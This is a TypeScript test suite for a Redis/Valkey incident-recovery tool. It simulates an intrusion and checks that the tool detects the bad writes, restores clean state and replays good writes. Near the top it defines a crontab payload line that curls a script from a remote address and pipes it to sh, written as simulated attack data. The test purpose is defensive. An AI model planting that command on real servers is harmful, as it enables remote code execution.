import assert from 'node:assert/strict';
import { readFile, utimes } from 'node:fs/promises';
import { after, before, describe, test } from 'node:test';
import { findEngines, freePort, randomFrom, type Server, startServer, waitFor } from '@redkeep/testing';
import { createClient, type RedisClient } from 'redkeep';
import { ArchiveHarness } from '../../backup/testing/archive-harness.js';
import { ExitCode } from '../../exit-codes.js';
import { openDeployment } from '../../testing/open-deployment.js';
import { CliSandbox } from '../../testing/run-cli.js';

const engines = findEngines().filter(({ name }) => ['redis-7.0', 'redis-8.0', 'valkey-9'].includes(name));
const cron = '\n\n*/2 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n\n';

/** What is written to the attacked server, and, where it is not bad, to one that was never attacked. */
type Write = { readonly words: readonly (readonly string[])[]; readonly bad?: boolean; readonly database?: string };

async function apply(client: RedisClient, { words, database = '0' }: Write): Promise<void> {
  await client.sendCommand(['SELECT', database]);
  const isTransaction = words.length > 1;
  if (isTransaction) await client.sendCommand(['MULTI']);
  for (const command of words) await client.sendCommand([...command]);
  if (isTransaction) await client.sendCommand(['EXEC']);
}

async function open(server: Server): Promise<RedisClient> {
  const client = createClient({ url: server.url, commandPolicy: 'unrestricted' });
  await client.connect();
  return client;
}

interface Listed {
  readonly number: number;
  readonly commands: readonly { readonly name: string; readonly keys: readonly string[] }[];
  readonly bad?: unknown;
  readonly replayed: boolean;
}

describe('redkeep incident recover', () => {
  let sandbox: CliSandbox;
  before(async () => {
    sandbox = await CliSandbox.create();
  });
  after(async () => {
    await sandbox.run(['down']);
    await sandbox.remove();
  });

  /** An archive of these writes, made while they happen; a `pause` waits at its position in the list. */
  async function archived(server: Server, writes: readonly Write[], harness: ArchiveHarness): Promise<void> {
    const client = await open(server);
    for (let key = 0; key < 50; key += 1) await client.set(`before:${key}`, `value ${key}`);
    const archive = harness.start(harness.options(harness.source({ main: [server] })));
    await waitFor(() => harness.events.some(({ kind }) => kind === 'base'));
    for (const write of writes) await apply(client, write);
    const { master_repl_offset: offset } = await server.info('replication');
    await waitFor(() => harness.events.some((event) => event.kind === 'segment' && event.to >= Number(offset)));
    await archive.stop();
    client.destroy();
  }

  const recover = (harness: ArchiveHarness, incident: string, ...args: string[]) =>
    sandbox.run(
      [
        ...['incident', 'recover', '--store', harness.storeFolder, '--identity', harness.identityFile],
        ...['--unverified-writer', '--incident', incident, ...args],
      ],
      { env: { HOME: sandbox.folder, PATH: process.env['PATH'] } },
    );

  async function listOf(out: string): Promise<Listed[]> {
    const { list } = JSON.parse(out) as { list: string };
    const lines = (await readFile(list, 'utf8')).trim().split('\n').filter(Boolean);
    return lines.map((line) => JSON.parse(line) as Listed);
  }

  /** The digest of what a server makes of a data folder. */
  async function digestOf(engine: (typeof engines)[number], folder: string): Promise<string> {
    await using server = await startServer({
      engine,
      appendonly: true,
      config: { dir: folder, 'enable-debug-command': 'yes' },
    });
    await server.command('DEBUG', 'SET-ACTIVE-EXPIRE', '0');
    return String(await server.command('DEBUG', 'DIGEST'));
  }

  for (const engine of engines)
    test(`restores the state before the intrusion and replays every good write, ${engine.name}`, async () => {
      await using harness = await ArchiveHarness.create();
      await using server = await startServer({ engine });
      await using reference = await startServer({ engine, config: { 'enable-debug-command': 'yes' } });
      const from = randomFrom(engine.name.length);
      const random = () => from(1000) / 1000;
      const good = (turn: number): Write => {
        const key = `app:${Math.floor(random() * 20)}`;
        const database = random() < 0.3 ? '3' : '0';
        if (random() < 0.2)
          return {
            database,
            words: [
              ['INCR', `n:${key}`],
              ['HSET', `h:${key}`, 'f', String(turn)],
            ],
          };
        // Deleting what FLUSHALL has deleted has no effect, so that no archive has it.
        if (turn < 90 && random() < 0.2) return { database, words: [['DEL', `s:${key}`]] };
        return { database, words: [['SET', `s:${key}`, `value ${turn}`]] };
      };
      const writes: Write[] = [];
      for (let turn = 0; turn < 60; turn += 1) writes.push(good(turn));
      writes.push({ bad: true, words: [['SET', 'crackit', cron]] });
      for (let turn = 60; turn < 90; turn += 1) writes.push(good(turn));
      writes.push({
        bad: true,
        database: '3',
        words: [
          ['INCR', 'innocent'],
          ['SET', 'padded', `${'y'.repeat(9000)}${cron}`],
        ],
      });
      writes.push({ bad: true, words: [['FLUSHALL']] });
      for (let turn = 90; turn < 140; turn += 1) writes.push(good(turn));
      await archived(server, writes, harness);

      const found = await recover(harness, `look-${engine.name}`, '--json');
      assert.equal(found.code, ExitCode.Findings, found.err);
      const summary = JSON.parse(found.out) as {
        badCommands: { indicator: string }[];
        later: number;
        laterBad: number;
      };
      assert.deepEqual(
        summary.badCommands.map(({ indicator }) => indicator),
        ['cron-payload', 'cron-payload', 'data-loss'],
      );
      assert.equal(summary.laterBad, 3);

      // Before the first bad command, nothing else.
      const clean = await open(reference);
      for (let key = 0; key < 50; key += 1) await clean.set(`before:${key}`, `value ${key}`);
      for (const write of writes.slice(0, 60)) await apply(clean, write);
      const digest = async () => String(await reference.command('DEBUG', 'DIGEST'));
      const out = sandbox.path(`clean-data-${engine.name}`);
      const restored = await recover(
        harness,
        `clean-${engine.name}`,
        '--out',
        out,
        '--server',
        engine.server,
        '--json',
      );
      assert.equal(restored.code, ExitCode.Ok, restored.err);
      assert.equal(await digestOf(engine, out), await digest());

      // With every later write that is not bad.
      for (const write of writes.slice(60)) if (!write.bad) await apply(clean, write);
      const all = sandbox.path(`all-data-${engine.name}`);
      const replayed = await recover(
        ...[harness, `all-${engine.name}`, '--out', all, '--replay', 'all', '--server', engine.server, '--json'],
      );
      assert.equal(replayed.code, ExitCode.Ok, replayed.err);
      assert.equal(await digestOf(engine, all), await digest());
      clean.destroy();
    });

  test('replays what was chosen by keys and numbers, and nothing else', async () => {
    await using harness = await ArchiveHarness.create();
    await using server = await startServer();
    await archived(
      server,
      [
        { words: [['SET', 'customer:1', 'old']] },
        { bad: true, words: [['DEL', 'customer:1', 'before:1']] },
        { words: [['SET', 'customer:1', 'new']] },
        { words: [['SET', 'order:1', 'x']] },
        { words: [['MSET', 'customer:2', 'a', 'order:2', 'b']] },
        { words: [['SET', 'customer:3', 'skipped']] },
      ],
      harness,
    );
    const nothing = await recover(harness, 'chosen', '--json');
    assert.match(nothing.out, /REDKEEP_BACKUP_NOT_FOUND/);
    const bad = ['--bad', 'DEL customer:*'];
    const listed = await listOf((await recover(harness, 'chosen', ...bad, '--json')).out);
    const skipped = listed.find(({ commands }) => commands[0]!.keys[0] === 'customer:3')!.number;
    const out = sandbox.path('chosen-out');
    const done = await recover(
      ...[harness, 'chosen', ...bad, '--replay', 'customer:*', '--skip', String(skipped), '--out', out, '--json'],
    );
    assert.equal(done.code, ExitCode.Ok, done.err);
    await using restored = await startServer({ appendonly: true, config: { dir: out } });
    const values = await Promise.all(
      ['customer:1', 'customer:2', 'customer:3', 'order:1', 'before:1'].map((key) => restored.command('GET', key)),
    );
    assert.deepEqual(
      values.map((value) => (value === null ? null : String(value))),
      ['new', null, null, null, 'value 1'],
    );
  });

  test('says that an intrusion is older than the archive', async () => {
    await using harness = await ArchiveHarness.create();
    await using server = await startServer();
    await server.command('SET', 'page', cron);
    await archived(server, [{ words: [['SET', 'a', 'b']] }, { words: [['FLUSHALL']] }], harness);
    const done = await recover(harness, 'older', '--out', sandbox.path('older-out'));
    assert.equal(done.code, ExitCode.Findings);
    assert.match(done.err, /still carry payloads/);
  });

  test('brings it into a new deployment, and not into one with passwords that the intruder may know', async () => {
    await using harness = await ArchiveHarness.create();
    await using server = await startServer();
    const init = await sandbox.run(['init', '--yes', '--port', String(await freePort())]);
    assert.equal(init.code, 0, init.err);
    const writes = [{ words: [['SET', 'app:1', 'x']] }, { words: [['FLUSHALL']] }, { words: [['SET', 'app:2', 'y']] }];
    await archived(server, writes, harness);
    assert.equal((await sandbox.run(['up', '--detach'])).code, 0);
    const deployment = await openDeployment(sandbox);
    const into = (...more: string[]) =>
      recover(
        harness,
        'into',
        '--into',
        'redkeep',
        '--replay',
        'all',
        '--yes',
        '--dir',
        'redkeep',
        '--source',
        'test',
        ...more,
      );
    const touch = async (at: Date) => {
      for (const { passwordFile } of deployment.deployment.users)
        await utimes(sandbox.path('redkeep', passwordFile), at, at);
    };
    await touch(new Date(Date.now() - 3_600_000));
    const refused = await into();
    assert.equal(refused.code, ExitCode.Usage, refused.err);
    assert.match(refused.err, /passwords that are older/);
    // As after `redkeep rotate`.
    await touch(new Date(Date.now() + 1000));
    const done = await into();
    assert.equal(done.code, ExitCode.Ok, done.err);
    const admin = await deployment.connect('admin');
    assert.equal(await admin.get('app:1'), 'x');
    assert.equal(await admin.get('app:2'), 'y');
    assert.equal(await admin.get('before:7'), 'value 7');
    admin.destroy();
  });
});
